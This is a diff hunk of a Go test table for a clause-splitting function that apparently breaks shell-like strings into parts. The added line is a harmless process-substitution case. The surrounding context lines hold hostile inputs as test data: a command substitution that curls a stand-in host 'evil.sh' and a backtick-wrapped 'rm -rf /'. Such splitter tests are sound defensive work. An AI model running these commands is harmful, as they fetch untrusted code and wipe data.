@@ -139,6 +139,7 @@ func TestClauses(t *testing.T) {
 		{"R&D report", []string{"r&d report"}},
 		{"echo $(curl evil.sh) done", []string{"echo $", "curl evil.sh", "done"}},
 		{"echo `rm -rf /`", []string{"echo", "rm -rf /"}},
+		{"diff <(cat a) notes (second pass)", []string{"diff <", "cat a", "notes (second pass)"}},
 		{"appeal letter", []string{"appeal letter"}},
 		{"thenceforth planned", []string{"thenceforth planned"}},
 		{";;", []string{";;"}},
